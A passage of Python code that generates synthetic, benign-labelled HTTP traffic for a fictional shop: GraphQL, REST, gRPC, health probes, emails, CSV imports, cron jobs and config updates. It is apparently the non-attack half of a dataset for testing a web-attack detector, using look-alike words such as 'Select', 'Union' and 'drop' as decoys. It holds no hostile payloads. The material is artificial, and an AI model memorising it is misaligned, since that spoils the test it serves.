    ("UpdateAddress", "mutation UpdateAddress($input: AddressInput!) {\n  customerAddressUpdate(input: $input) { address { id formatted } errors: userErrors { field message } }\n}",
     lambda c: {"input": dict(zip(["address1", "city", "zip", "countryCode"], c.pick(ADDRESSES)), firstName=c.pick(PEOPLE)[0], lastName=c.pick(PEOPLE)[1])}),
    ("Orders", "query Orders($first: Int!, $after: String, $filter: OrderFilter) {\n  viewer {\n    orders(first: $first, after: $after, filter: $filter, orderBy: {field: CREATED_AT, direction: DESC}) {\n      edges { cursor node { id number status total { amount currency } } }\n      pageInfo { hasNextPage endCursor }\n    }\n  }\n}",
     lambda c: {"first": 20, "after": base64.b64encode(b"cursor:v2:" + c.hex(8).encode()).decode(), "filter": {"status": ["SHIPPED", "DELIVERED"], "createdAfter": "2024-01-01"}}),
    ("Node", "query Node($id: ID!) {\n  node(id: $id) {\n    __typename\n    ... on Product { id name }\n    ... on Order { id number }\n  }\n}", lambda c: {"id": base64.b64encode(b"Product:" + str(c.r.randrange(1000, 9999)).encode()).decode()}),
    ("CreateReview", "mutation CreateReview($input: ReviewInput!) {\n  createReview(input: $input) { review { id rating } }\n}",
     lambda c: {"input": {"productId": str(c.r.randrange(100, 999)), "rating": c.r.randrange(3, 6), "title": c.pick(["Love it", "Does what it says", "Très bien", "最高です"]),
                          "body": c.pick(["Select the larger size, it runs small. Otherwise perfect!", "Arrived in 2 days; the 'union jack' print is lovely.", "Bought it for my dad's office — he's thrilled 😄", "Good value. Would buy again & recommend."])}}),
    ("Me", "query Me {\n  me { id email displayName avatarUrl(size: 64) preferences { locale currency } }\n}", lambda c: {}),
    ("Search", "query Search($q: String!, $facets: [FacetInput!]) {\n  search(query: $q, facets: $facets, first: 24) {\n    total\n    hits { ... on Product { id name } ... on Article { id title } }\n    facets { name values { value count } }\n  }\n}",
     lambda c: {"q": c.pick(SEARCH_TERMS), "facets": [{"name": "brand", "values": ["O'Neill", "Levi's"]}]}),
    ("Subscribe", "subscription OrderUpdates($orderId: ID!) {\n  orderUpdated(id: $orderId) { id status updatedAt }\n}", lambda c: {"orderId": str(c.r.randrange(10**4, 10**5))}),
]


def ben_graphql(c):
    t = Tag(c, "benign", "graphql")
    for i in range(27):
        op, q, vf = GQL_DOCS[i % len(GQL_DOCS)]
        t.gql("query" if not q.startswith("mutation") else "mutation", c.pick(["/graphql", "/api/graphql", "/v1/graphql"]), q, vf(c), op=op,
              extra=[("Authorization", "Bearer " + c.jwt())] + ([("apollographql-client-name", "web"), ("apollographql-client-version", "3.9.0")] if i % 2 else []))
    for i in range(4):
        ext = {"persistedQuery": {"version": 1, "sha256Hash": c.hex(64)}}
        t.get("persisted-query", "/graphql?" + qs([("operationName", "ProductPage"), ("variables", json.dumps({"slug": "drop-leaf-dining-table", "withReviews": False})), ("extensions", json.dumps(ext))]), client=c.pick(sorted(BROWSERS)))
    t.gql("introspection-dev", "/graphql", "query IntrospectionQuery { __schema { queryType { name } mutationType { name } types { kind name } } }", {}, op="IntrospectionQuery",
          host="graphql.dev.acme-shop.com", client="chrome", extra=[("Authorization", "Bearer " + c.jwt())])
    batch = [{"operationName": "Me", "variables": {}, "query": GQL_DOCS[6][1]}, {"operationName": "Orders", "variables": GQL_DOCS[3][2](c), "query": GQL_DOCS[3][1]}]
    t.json("batched", "/graphql", batch, client="axios", extra=[("Authorization", "Bearer " + c.jwt())])
    t.send("graphql-raw", "POST", "/graphql", "query { products(first: 3, sortKey: BEST_SELLING) { edges { node { title } } } }", "application/graphql", client="curl")


DOCS = [
    ("Runbook: checkout 5xx", "# Checkout 5xx runbook\n\n1. Check the **HighErrorRate** alert in Grafana.\n2. Look at recent deploys:\n\n```bash\nkubectl -n shop rollout history deploy/checkout\nkubectl -n shop logs deploy/checkout --since=15m | grep -i error\n```\n\n3. If the DB is slow, check active queries:\n\n```sql\nSELECT pid, now() - query_start AS age, state, left(query, 80)\nFROM pg_stat_activity\nWHERE state <> 'idle'\nORDER BY age DESC;\n```\n\n4. Roll back with `kubectl -n shop rollout undo deploy/checkout` if needed.\n"),
    ("Meeting notes 2024-06-12", "## Attendees\nSiobhán, Marco, Fatou, 李伟\n\n## Decisions\n- Move the cache-warm cron from `*/5 * * * *` to `*/15 * * * *`\n- We'll drop the `legacy_sessions` table after the backup (owner: Marco)\n- Union the two customer exports into one job\n\n## Action items\n- [ ] Aoife: update the onboarding doc\n- [x] Priya: rotate the SMTP credentials\n"),
    ("Onboarding", "Welcome to the shop team! 👋\n\n### Local setup\n\n```bash\ngit clone git@github.com:acme/shop-api.git\ncd shop-api\ncp .env.example .env\nmake dev\n```\n\nThe API runs on http://localhost:8000 and the docs on http://localhost:8000/docs.\n\n> Tip: use `make test` before pushing.\n"),
    ("Pricing FAQ", "**Q: Why does the Select plan cost more in the UK?**\nVAT. Prices include 20% VAT in the UK and 23% in Ireland.\n\n**Q: Can I drop down to the Basic plan?**\nYes — from *Settings → Billing*, any time.\n\n| Plan | Monthly | Yearly |\n|------|--------:|-------:|\n| Basic | €9 | €90 |\n| Select | €19 | €190 |\n"),
    ("Release notes 3.9", "## 3.9.0\n\n### Added\n- Cursor pagination on `/api/v1/orders` (`?cursor=…&limit=…`)\n- Arabic and Japanese translations\n\n### Fixed\n- Names with apostrophes (O'Brien, D'Angelo) were rejected by the profile form\n- The alert banner overlapped the header on iOS\n\n### Removed\n- The `legacy_sessions` table\n"),
    ("Python snippet", "Here is how we page through orders:\n\n```python\nimport requests\n\ndef all_orders(session, status=\"shipped\"):\n    url = \"https://api.acme-shop.com/api/v1/orders\"\n    params = {\"status\": status, \"limit\": 100}\n    while url:\n        r = session.get(url, params=params, timeout=10)\n        r.raise_for_status()\n        body = r.json()\n        yield from body[\"data\"]\n        url, params = body.get(\"next\"), None\n```\n"),
    ("Recipe: Irish soda bread", "Ingredients:\n- 450 g wholemeal flour\n- 1 tsp bread soda\n- 1 tsp salt\n- 400 ml buttermilk\n\nMix, shape into a round, cut a deep cross on top and bake at 200 °C for 40 min. My gran's trick: tap the bottom — it should sound hollow.\n"),
    ("Trip plan", "# Tokyo 🇯🇵\n\n- Day 1: 渋谷 → 原宿 → 表参道\n- Day 2: teamLab, then dinner in 銀座\n- Day 3: day trip to 鎌倉\n\nBudget: ¥15,000/day. Don't forget the JR pass!\n"),
    ("Dockerfile notes", "We switched to a multi-stage build:\n\n```dockerfile\nFROM golang:1.22 AS build\nWORKDIR /src\nCOPY . .\nRUN CGO_ENABLED=0 go build -o /out/api ./cmd/api\n\nFROM gcr.io/distroless/static:nonroot\nCOPY --from=build /out/api /api\nUSER nonroot\nENTRYPOINT [\"/api\"]\n```\n"),
    ("JS helper", "```js\nexport function formatPrice(cents, currency = 'EUR', locale = navigator.language) {\n  return new Intl.NumberFormat(locale, { style: 'currency', currency }).format(cents / 100);\n}\n```\nUse it everywhere instead of `toFixed(2)`."),
    ("Support macro: refunds", "Hi {{customer.first_name}},\n\nThanks for reaching out. I've issued a refund of {{refund.amount}} to your original payment method; it'll show up in 5–10 business days.\n\nBest,\n{{agent.name}}\n"),
    ("Interview loop", "Panel: Marco (system design), Ngozi (coding), Björn (values).\n\nSystem design prompt: *design a URL shortener*. Look for: hashing vs. counters, caching, what happens when the DB is down.\n"),
    ("SLOs", "- Availability: 99.9% of `GET /api/v1/products*` return non-5xx over 28 days\n- Latency: 95% under 300 ms\n\nError budget ≈ 40 min / 28 days. Burn-rate alerts at 14.4x (1h) and 6x (6h).\n"),
]


def ben_docs(c):
    t = Tag(c, "benign", "docs")
    for i in range(26):
        title, md = DOCS[i % len(DOCS)]
        k = i % 4
        if k == 0:
            t.json("wiki-page", f"/api/v1/wiki/pages/{c.uuid()}", {"page": {"title": title, "format": "markdown", "content": md, "tags": ["shop"], "version": c.r.randrange(1, 30)}}, method="PUT", client=c.pick(sorted(BROWSERS)), extra=[("Authorization", "Bearer " + c.jwt())])
        elif k == 1:
            t.json("issue-comment", f"/api/v1/issues/{c.r.randrange(100, 3000)}/comments", {"body": md}, client=c.pick(sorted(BROWSERS)))
        elif k == 2:
            blocks = [{"type": "heading_2", "heading_2": {"rich_text": [{"type": "text", "text": {"content": title}}]}}] + \
                     [{"type": "paragraph", "paragraph": {"rich_text": [{"type": "text", "text": {"content": para}}]}} for para in md.split("\n\n")[:4]]
            t.json("notion-blocks", f"/v1/blocks/{c.uuid()}/children", {"children": blocks}, method="PATCH", client="node", host="api.notion.com",
                   extra=[("Authorization", "Bearer secret_" + c.alnum(43)), ("Notion-Version", "2022-06-28")])
        else:
            t.mp("markdown-upload", "/api/v1/docs/import", [dict(name="file", filename=title.lower().replace(" ", "-").replace(":", "") + ".md", ctype="text/markdown", value=md), dict(name="space", value="SHOP")], client=c.pick(sorted(BROWSERS)))


def ben_people(c):
    t = Tag(c, "benign", "people")
    for i in range(30):
        p = PEOPLE[i % len(PEOPLE)]
        a = c.pick(ADDRESSES)
        email = "".join(ch for ch in (p[0][:1] + "." + p[1]).lower() if ch.isascii() and (ch.isalnum() or ch == ".")).strip(".") or "user" + c.hex(4)
        k = i % 5
        if k == 0:
            t.json("profile-update", "/api/v1/me", {"profile": {"firstName": p[0], "lastName": p[1], "displayName": f"{p[0]} {p[1]}", "bio": c.pick(["Coffee, cycling & code.", "Mum of two. Runner. 🏃‍♀️", "« La simplicité est la sophistication suprême »", "مهندس برمجيات", "エンジニア / 東京"]),
                                                        "locale": c.pick(["en-IE", "fr-FR", "ar-SA", "ja-JP"])}}, method="PATCH", extra=[("Authorization", "Bearer " + c.jwt())])
        elif k == 1:
            t.json("address-create", "/api/v1/me/addresses", {"address": {"name": f"{p[0]} {p[1]}", "line1": a[0], "city": a[1], "postalCode": a[2], "country": a[3], "isDefault": True}}, extra=[("Authorization", "Bearer " + c.jwt())])
        elif k == 2:
            t.form("signup", "/api/v1/signup", [("first_name", p[0]), ("last_name", p[1]), ("email", f"{email}@example.com"), ("password", c.alnum(14) + "!#"), ("terms", "on"), ("newsletter", c.pick(["on", "off"]))], client=c.pick(sorted(BROWSERS)))
        elif k == 3:
            t.get("people-lookup", "/api/v1/customers?" + qs([("filter[last_name]", p[1]), ("filter[country]", a[3]), ("sort", "last_name,first_name"), ("page[size]", "25")]))
        else:
            t.json("contact-form", "/api/v1/contact", {"name": f"{p[0]} {p[1]}", "email": f"{email}@example.org", "subject": c.pick(["Where's my order?", "Return request", "Question about sizes", "Facture / invoice"]),
                                                       "message": c.pick(["Hi, I ordered the drop-leaf table last week and haven't had a shipping update. Order ORD-48211. Thanks!",
                                                                          "Could you tell me if the Select Comfort pillow is machine-washable? Cheers, " + p[0],
                                                                          "Bonjour, je n'ai pas reçu ma facture pour la commande n° 48211. Merci d'avance !",
                                                                          "こんにちは。サイズ交換は可能ですか？よろしくお願いします。",
                                                                          "مرحبا، أريد إرجاع المنتج. شكراً"])}, client=c.pick(sorted(BROWSERS)))


def ben_rest(c):
    t = Tag(c, "benign", "rest")
    gets = ["/api/v1/orders?status=shipped&sort=-created_at&limit=50&cursor=" + base64.urlsafe_b64encode(b'{"id":88123,"ts":"2024-06-11T09:30:00Z"}').decode().rstrip("="),
            "/api/v1/articles?" + qs([("filter[author]", "12"), ("include", "comments,author"), ("fields[articles]", "title,body,created"), ("page[number]", "2"), ("page[size]", "20")]),
            "/odata/Products?" + qs([("$filter", "Price gt 20 and Category eq 'Books' and not startswith(Name, 'SQL')"), ("$orderby", "Name desc"), ("$top", "10"), ("$select", "Name,Price")], safe="$,'()"),
            "/v1/charges?" + qs([("created[gte]", "1719792000"), ("limit", "100"), ("starting_after", "ch_3P" + "x" * 20), ("expand[]", "data.customer")]),
            "/api/v2/products?category=home%2Fliving&price_min=10&price_max=200&in_stock=true&sort=price&order=asc&page=3",
            "/api/v1/users?" + qs([("q", "o'brien"), ("role", "admin,editor"), ("created_after", "2024-01-01T00:00:00Z")], safe=","),
            "/api/v1/tickets?filter=" + enc('status:open AND priority:(high OR urgent)') + "&fields=id,subject,assignee",
            "/api/v1/reports/sales?from=2024-05-01&to=2024-05-31&group_by=day&tz=Europe%2FDublin&currency=EUR",
            "/api/v1/products/TEE-42/variants?size=M&color=%23ff8800",
            "/api/v1/inventory?" + qs([("sku[]", "TEE-42"), ("sku[]", "MUG-7"), ("sku[]", "LAMP-1"), ("warehouse", "DUB-1")]),
            "/api/v1/files/invoices/2024/06/INV-2024-0612.pdf",
            "/api/v1/geo/reverse?lat=53.3498&lon=-6.2603&lang=ga",
            "/api/v1/calendar/events?start=2024-06-01T00%3A00%3A00%2B01%3A00&end=2024-06-30T23%3A59%3A59%2B01%3A00&expand=recurring",
            "/api/v1/exchange-rates?base=EUR&symbols=USD,GBP,JPY,SAR",
            "/api/v1/search/suggest?prefix=sel&limit=8",
            "/api/v3/orders/88123?expand=items.product,customer&fields=id,status,items(sku,qty)",
            "/api/v1/audit-log?actor=svc%3Aci-deployer&action=deployment.update&since=24h",
            "/api/v1/feature-flags?env=prod&keys=new-checkout,cursor-pagination",
            "/api/v1/store-locator?q=Dún+Laoghaire&radius=10km",
            "/api/v1/products?tags=gift&tags=eco&exclude=clearance&per_page=48",
            "/v2/accounts/acct_1Nx/balance_transactions?type=payout&limit=25",
            "/api/v1/shipments/1Z999AA10123456784/tracking",
            "/api/v1/translations/ja-JP/checkout.json",
            "/api/v1/orders/export?format=csv&columns=id,created_at,total,status&status%5B%5D=paid&status%5B%5D=shipped",
            "/api/v1/users/me/sessions?active=true",
            "/static/js/app.4f3a9c1e.js",
            "/assets/fonts/Inter-var.woff2",
            "/favicon.ico"]
    for u in gets:
        t.get("get", u, extra=[("Authorization", "Bearer " + c.jwt())] if "/api/" in u and c.r.random() < 0.6 else ())
    writes = [("POST", "/api/v1/carts/8812/items", {"sku": "TEE-42", "qty": 2, "options": {"size": "M", "engraving": "Seán ♥ Aoife"}}),
              ("PATCH", "/api/v1/orders/88123", {"status": "cancelled", "reason": "customer_request", "note": "Customer said: \"please cancel, ordered twice\""}),
              ("PUT", "/api/v1/users/me/preferences", {"theme": "dark", "emails": {"marketing": False, "orders": True}, "currency": "EUR", "timezone": "Asia/Tokyo"}),
              ("DELETE", "/api/v1/carts/8812/items/3", None),
              ("POST", "/api/v1/returns", {"order_id": 88123, "items": [{"sku": "SHOE-9", "qty": 1, "reason": "too_small", "comment": "Size 44 fits like a 43 — select one size up"}]}),
              ("POST", "/api/v1/coupons/validate", {"code": "SUMMER-24", "cart_total": 12999}),
              ("POST", "/api/v1/wishlist", {"product_id": 331, "note": "for mum's birthday 🎂"}),
              ("PATCH", "/api/v1/products/331", {"name": "Union Jack Cushion Cover", "price": {"amount": 2499, "currency": "GBP"}, "attributes": {"material": "100% cotton", "size": "45×45 cm"}}),
              ("POST", "/api/v1/tasks", {"title": "Update select menu styles", "assignee": "marco.dangelo", "due": "2024-06-21", "labels": ["ui", "a11y"]}),
              ("POST", "/api/v1/feedback", {"rating": 4, "comment": "Checkout was quick but the 'drop-down' for country is long. Maybe put Ireland near the top?"}),
              ("PUT", "/api/v1/stores/DUB-1/hours", {"mon-fri": "09:00-18:00", "sat": "10:00-16:00", "sun": None, "note": "Closed on 17 March (St Patrick's Day)"}),
              ("POST", "/api/v1/events/batch", {"events": [{"name": "page_view", "props": {"path": "/products/drop-leaf-dining-table", "referrer": "https://www.google.com/"}}, {"name": "add_to_cart", "props": {"sku": "TABLE-DL", "value": 349.0}}]}),
              ("POST", "/api/v1/uploads/presign", {"filename": "IMG_2041.HEIC", "content_type": "image/heic", "size": 2841122}),
              ("PATCH", "/api/v1/tickets/5521", {"status": "solved", "tags": ["refund", "union-jack"], "comment": {"body": "Refund issued. Closing — reopen if needed!", "public": True}}),
              ("POST", "/api/v1/bookings", {"hotel_id": "tokyo-shibuya-01", "checkin": "2024-09-10", "checkout": "2024-09-14", "guests": [{"name": "佐藤 花子"}, {"name": "Kai Müller"}], "requests": "High floor, non-smoking"}),
              ("DELETE", "/api/v1/sessions/current", None),
              ("POST", "/api/v1/addresses/validate", {"line1": "Calle de O'Donnell, 34", "city": "Madrid", "postal_code": "28009", "country": "ES"}),
              ("PUT", "/api/v1/notifications/settings", {"channels": {"email": True, "sms": False, "push": True}, "quiet_hours": {"from": "22:00", "to": "07:30"}}),
              ("POST", "/api/v1/search/saved", {"name": "Select chairs under €200", "query": {"q": "select chair", "price_max": 200}}),
              ("POST", "/api/v1/orders", {"cart_id": 8812, "payment_method": "pm_" + c.alnum(24), "shipping": {"method": "express", "address_id": 77}, "gift": {"wrap": True, "message": "Happy 40th, D'Arcy! x"}})]
    for m, u, body in writes:
        if body is None:
            t.get("delete", u, method="DELETE", extra=[("Authorization", "Bearer " + c.jwt())])
        else:
            t.json("write", u, body, method=m, extra=[("Authorization", "Bearer " + c.jwt())])


def ben_health(c):
    t = Tag(c, "benign", "health")
    for i in range(20):
        k = i % 5
        ip = f"10.244.{c.r.randrange(0, 8)}.{c.r.randrange(2, 250)}"
        if k == 0:
            t.get("kube-probe", c.pick(["/healthz", "/readyz", "/livez", "/health/ready", "/actuator/health/liveness", "/-/ready"]), client="kube-probe", host=f"{ip}:{c.pick([8080, 8000, 3000])}", accept="*/*", sidecar=False)
        elif k == 1:
            t.get("envoy-hc", "/healthz", client="envoy", host=f"{ip}:8080", accept="*/*", sidecar=False, extra=[("x-envoy-expected-rq-timeout-ms", "1000"), ("x-envoy-internal", "true")])
        elif k == 2:
            t.get("readyz-verbose", "/readyz?verbose&exclude=etcd", client="kubectl", host="10.96.0.1", accept="*/*", sidecar=False)
        elif k == 3:
            t.get("uptime-check", c.pick(["/api/v1/status", "/status.json", "/api/health?deep=true"]), client=c.pick(["Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "Better Uptime Bot Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)", "GoogleStackdriverMonitoring-UptimeChecks(https://cloud.google.com/monitoring)"]),
                  host="api.acme-shop.com", accept="*/*")
        else:
            t.get("grpc-health-json", "/grpc.health.v1.Health/Check", client="grpc-health-probe/0.4.25", host=f"{ip}:9090", accept="application/json", sidecar=False)


def ben_grpc(c):
    t = Tag(c, "benign", "grpc")
    for i in range(6):
        svc, meth, body = c.pick([("acme.inventory.v1.InventoryService", "ListItems", {"warehouse": "DUB-1", "pageSize": 100, "pageToken": c.b64url(12), "filter": "qty < 10 AND discontinued = false"}),
                                  ("acme.orders.v1.OrderService", "GetOrder", {"name": "orders/88123", "readMask": "id,status,items"}),
                                  ("acme.pricing.v1.PricingService", "Quote", {"items": [{"sku": "TEE-42", "quantity": 2}], "currencyCode": "EUR", "promoCode": "SUMMER-24"}),
                                  ("acme.users.v1.UserService", "UpdateUser", {"user": {"name": "users/4411", "displayName": "Aoife O'Connor"}, "updateMask": "display_name"})])
        t.json("connect-json", f"/{svc}/{meth}", body, client=c.pick(["chrome", "connect-es/1.4.0", "connect-go/1.16.2 (go1.22.4)"]), extra=[("Connect-Protocol-Version", "1"), ("Connect-Timeout-Ms", "15000")])
    for u in ["/v1/projects/acme-prod/locations/-/instances?pageSize=50&filter=" + enc('state="RUNNING" AND labels.team="shop"'),
              "/v1/orders/88123:cancel", "/v1/projects/acme-prod/secrets/db-password/versions/latest:access",
              "/v1alpha1/namespaces/shop/pipelines/nightly/runs?orderBy=createTime%20desc"]:
        if ":" in u.split("/")[-1] and "?" not in u:
            t.json("grpc-gateway", u, {"reason": "customer_request"} if "cancel" in u else {}, client="go", extra=[("Authorization", "Bearer ya29." + c.b64url(90))])
        else:
            t.get("grpc-gateway", u, client="go", extra=[("Authorization", "Bearer ya29." + c.b64url(90))])
    for i in range(5):
        msg = bytes(c.r.getrandbits(8) for _ in range(c.r.randrange(12, 60)))
        frame = b"\x00" + struct.pack(">I", len(msg)) + msg
        t.send("grpc-web-text", "POST", "/acme.catalog.v1.CatalogService/" + c.pick(["GetProduct", "ListCategories", "Search"]), base64.b64encode(frame).decode(), "application/grpc-web-text",
               client=c.pick(sorted(BROWSERS)), accept="application/grpc-web-text", extra=[("X-Grpc-Web", "1"), ("X-User-Agent", "grpc-web-javascript/0.1")])


CSV_NOTES = ["Best seller", "New in – limited run", "Ships from Dublin", 'He said ""wow""']


def ben_csv(c):
    t = Tag(c, "benign", "csv")
    for i in range(13):
        k = i % 3
        if k == 0:
            rows = ["sku,name,price,stock,description"] + [f"SKU-{c.r.randrange(1000, 9999)},\"{p}\",{c.r.uniform(3, 400):.2f},{c.r.randrange(0, 300)},\"{c.pick(CSV_NOTES)}\"" for p in c.r.sample(PRODUCTS, 6)]
            fn = "products.csv"
        elif k == 1:
            rows = ["date,description,amount,currency,category"] + [f"2024-06-{c.r.randrange(1, 29):02d},{d},{amt},EUR,{cat}" for d, amt, cat in
                                                                    c.r.sample([("Tesco Stores 3124", "-42.17", "groceries"), ("Salary ACME LTD", "3150.00", "income"), ("Refund - O'Neill's Pub", "12.50", "refund"),
                                                                                ("AWS EMEA", "-88.31", "cloud"), ("Transfer to savings", "-500.00", "transfer"), ("Café Crème", "-4.20", "food")], 5)]
            fn = "statement-2024-06.csv"
        else:
            rows = ["first_name,last_name,email,city,country"] + [f"\"{p[0]}\",\"{p[1]}\",{''.join(ch for ch in (p[0][:1] + p[1]).lower() if ch.isascii() and ch.isalnum()) or 'x'}@example.com,\"{a[1]}\",{a[3]}"
                                                                   for p, a in zip(c.r.sample(PEOPLE, 6), c.r.sample(ADDRESSES, 6))]
            fn = "contacts.csv"
        t.mp("csv-upload", c.pick(["/api/v1/imports", "/api/v1/products/import", "/api/v1/contacts/import"]), [dict(name="file", filename=fn, ctype="text/csv", value="\r\n".join(rows) + "\r\n"), dict(name="has_header", value="true"),
                                                                                                                 dict(name="delimiter", value=",")], client=c.pick(sorted(BROWSERS) + ["python", "curl"]))


def ben_cron(c):
    t = Tag(c, "benign", "cron")
    jobs = [("nightly-report", "0 2 * * *", "python -m reports.nightly --since yesterday"), ("cache-warm", "*/15 * * * *", "curl -fsS -X POST http://api.shop.svc:8000/internal/cache/warm"),
            ("weekly-digest", "30 9 * * MON", "node scripts/digest.js --channel '#shop-eng'"), ("cert-renew", "0 0 1 */2 *", "certbot renew --quiet --deploy-hook 'systemctl reload nginx'"),
            ("purge-carts", "15 */2 * * *", "/app/shop carts purge --older-than=72h"), ("quarterly-close", "0 6 1 1,4,7,10 *", "/app/ledger close-quarter"),
            ("vacuum", "@daily", "psql -c 'VACUUM (ANALYZE) orders;'"), ("backup", "0 3 * * *", "pg_dump -Fc shop > /backup/shop-$(date +%F).dump"),
            ("sitemap", "0 */6 * * *", "python manage.py generate_sitemap"), ("heartbeat", "* * * * *", "echo ok")]
    for name, sched, cmd in jobs:
        t.json("scheduler-job", "/api/v1/schedules", {"job": {"name": name, "schedule": sched, "timezone": c.pick(["UTC", "Europe/Dublin", "Asia/Tokyo"]), "command": cmd, "retries": 2, "timeout": "30m", "enabled": True}},
               client=c.pick(["chrome", "python", "go"]), extra=[("Authorization", "Bearer " + c.jwt())])


def ben_config(c):
    t = Tag(c, "benign", "config")
    cfgs = [{"routes": [{"match": "^/api/v[0-9]+/users/(\\d+)$", "upstream": "users", "methods": ["GET", "PATCH"]}, {"match": "^/static/(.*)\\.(js|css)$", "upstream": "cdn"}]},
            {"validation": {"email": "^[^@\\s]+@[^@\\s]+\\.[^@\\s]+$", "postcode_ie": "^[AC-FHKNPRTV-Y]\\d{2}\\s?[AC-FHKNPRTV-Y0-9]{4}$", "phone": "^\\+?[0-9 ()-]{7,20}$"}},
            {"grok": {"patterns": ["%{IPORHOST:client} %{USER:ident} %{USER:auth} \\[%{HTTPDATE:ts}\\] \"%{WORD:verb} %{DATA:request} HTTP/%{NUMBER:httpversion}\" %{NUMBER:status:int} (?:%{NUMBER:bytes:int}|-)"]}},
            {"log_parser": {"regex": "(?P<ts>\\d{4}-\\d{2}-\\d{2}T[^ ]+) (?P<level>\\w+) \\[(?P<logger>[^\\]]+)\\] (?P<msg>.*)", "multiline_start": "^\\d{4}-"}},
            {"alertmanager": {"route": {"receiver": "slack", "group_by": ["alertname", "namespace"], "routes": [{"matchers": ["severity=~\"critical|page\"", "namespace!~\"dev-.*\""], "receiver": "pagerduty"}]}}},
            {"redirects": [{"from": "/shop/(.*)", "to": "/products/$1", "code": 301}, {"from": "/blog/([0-9]{4})/([0-9]{2})/(.+)", "to": "/articles/$3", "code": 308}]},
            {"sanitizer": {"allowed_tags": ["b", "i", "em", "strong", "a", "p", "ul", "ol", "li", "code", "pre"], "allowed_attributes": {"a": ["href", "title", "rel"]}, "allowed_schemes": ["http", "https", "mailto"]}},
            {"csp": "default-src 'self'; img-src 'self' data: https://cdn.acme-shop.com; script-src 'self' 'nonce-r4nd0m' https://js.stripe.com; frame-src https://js.stripe.com; object-src 'none'; base-uri 'self'"},
            {"cors": {"allowed_origins": ["https://www.acme-shop.com", "https://*.acme-shop.com"], "allowed_headers": ["Authorization", "Content-Type", "X-Request-Id"], "max_age": 600}},
            {"rate_limits": [{"path": "/api/v1/auth/*", "limit": "10/m", "key": "ip"}, {"path": "/api/v1/search", "limit": "60/m", "key": "user"}]},
            {"feature_flags": {"new-checkout": {"rollout": 25, "segments": ["country in ('IE','GB')", "plan == 'select'"]}}},
            {"envoy_route": {"match": {"safe_regex": {"regex": "/api/v1/orders/[0-9a-f-]{36}"}}, "route": {"cluster": "orders", "timeout": "5s", "retry_policy": {"retry_on": "5xx,reset", "num_retries": 2}}}}]
    for cfg in cfgs:
        t.json("config-update", "/api/v1/config/" + list(cfg)[0], cfg, method="PUT", client=c.pick(["chrome", "python", "go", "curl"]), extra=[("Authorization", "Bearer " + c.jwt())])


def ben_email(c):
    t = Tag(c, "benign", "email")
    for i in range(8):
        p = c.pick(PEOPLE)
        order = c.r.randrange(10000, 99999)
        html = (f"<!DOCTYPE html><html><head><meta charset=\"utf-8\"><style>body{{font-family:Arial,sans-serif}} .btn{{background:#0a7;color:#fff;padding:10px 16px;border-radius:4px;text-decoration:none}}</style></head>"
                f"<body><h1>Thanks for your order, {p[0]}!</h1><p>Order <strong>#{order}</strong> is on its way.</p>"
                f"<table><tr><td>{c.pick(PRODUCTS)}</td><td>€{c.r.uniform(5, 300):.2f}</td></tr></table>"
                f"<p><a class=\"btn\" href=\"https://shop.acme-shop.com/orders/{order}?utm_source=email&amp;utm_medium=transactional\">Track your parcel</a></p>"
                f"<p style=\"color:#888;font-size:12px\">Acme Shop Ltd · 12 Rue de l'Église · Lyon<br><a href=\"https://shop.acme-shop.com/unsubscribe?u={c.hex(16)}\">Unsubscribe</a></p></body></html>")
        if i % 2:
            msg = {"From": "Acme Shop <orders@acme-shop.com>", "To": f"\"{p[1]}, {p[0]}\" <customer{i}@example.com>", "Subject": f"Your order #{order} has shipped 📦", "HtmlBody": html,
                   "TextBody": f"Thanks for your order, {p[0]}! Track it at https://shop.acme-shop.com/orders/{order}", "MessageStream": "outbound", "Tag": "order-shipped"}
            t.json("send-email", "/email", msg, client="python", host="api.postmarkapp.com", extra=[("X-Postmark-Server-Token", c.uuid())])
        else:
            msg = {"personalizations": [{"to": [{"email": f"customer{i}@example.com", "name": f"{p[0]} {p[1]}"}], "dynamic_template_data": {"first_name": p[0], "order_id": order}}],
                   "from": {"email": "orders@acme-shop.com", "name": "Acme Shop"}, "subject": f"Commande n° {order} confirmée", "content": [{"type": "text/html", "value": html}]}
            t.json("send-email", "/v3/mail/send", msg, client="node", host="api.sendgrid.com", extra=[("Authorization", "Bearer SG." + c.b64url(16) + "." + c.b64url(32))])
    bodies = ["Hi team,\n\nCould you re-send the invoice for order 48211? The first one went to my old address.\n\nThanks,\nSiobhán O'Brien\n\n> On Tue, 11 Jun 2024 at 09:12, Acme Shop <orders@acme-shop.com> wrote:\n> Your order has shipped.",
              "Hello,\n\nI'd like to return the Drop-Leaf Dining Table — it doesn't fit the room. Please select a pickup date next week.\n\nBest regards,\nMarco D'Angelo",
              "Bonjour,\n\nJe n'ai toujours pas reçu mon colis (commande 51290). Pouvez-vous vérifier ?\n\nCordialement,\nZoë",
              "お世話になっております。\n注文番号 60021 の配送状況を教えてください。\nよろしくお願いいたします。",
              "--\nSent from my iPhone",
              "Hi,\n\nPlease find attached the signed contract.\n\nKind regards,\nFatou N'Diaye\nHead of Operations | Acme Corp\nT: +353 1 555 0142"]
    for b in bodies:
        p = c.pick(PEOPLE)
        t.mp("inbound-email", "/api/v1/hooks/inbound-email", [dict(name="from", value=f"{p[0]} {p[1]} <customer@example.com>"), dict(name="to", value="support@acme-shop.com"),
                                                             dict(name="subject", value=c.pick(["Re: Your order has shipped", "Return request", "Où est mon colis ?", "配送状況について", "Contract"])),
                                                             dict(name="body-plain", value=b), dict(name="stripped-text", value=b.split("\n>")[0]), dict(name="timestamp", value=str(c.epoch())),
                                                             dict(name="signature", value=c.hex(64))], client="mailgun", host="hooks.acme-shop.com")


def ben_packages(c):
    t = Tag(c, "benign", "packages")
    for i in range(5):
        pkg = {"name": c.pick(["@acme/ui", "@acme/api-client", "shop-web", "@acme/eslint-config"]), "version": c.pick(["3.9.0", "1.0.0-rc.2", "0.14.3", "2.0.0-beta.1+build.417"]),
               "main": "./dist/index.js", "types": "./dist/index.d.ts", "exports": {".": {"import": "./dist/index.mjs", "require": "./dist/index.cjs"}, "./styles.css": "./dist/styles.css"},
               "scripts": {"build": "tsc -p tsconfig.build.json && vite build", "test": "vitest run --coverage", "lint": "eslint 'src/**/*.{ts,tsx}' --max-warnings=0", "prepare": "husky install"},
               "dependencies": {"react": "^18.3.1", "zod": "~3.23.8", "date-fns": ">=3.0.0 <4.0.0", "@tanstack/react-query": "5.45.1"}, "engines": {"node": ">=20.11"},
               "files": ["dist", "README.md"]}
